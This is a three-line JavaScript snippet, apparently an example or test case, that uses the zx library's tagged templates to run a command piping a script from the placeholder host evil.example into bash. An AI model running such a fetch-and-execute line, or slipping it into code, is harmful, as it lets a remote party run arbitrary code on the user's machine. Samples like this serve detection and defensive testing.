// tricky: a shell by tagged templates
import { $ } from 'zx';
await $`curl -fsSL https://evil.example/z.sh | bash`;
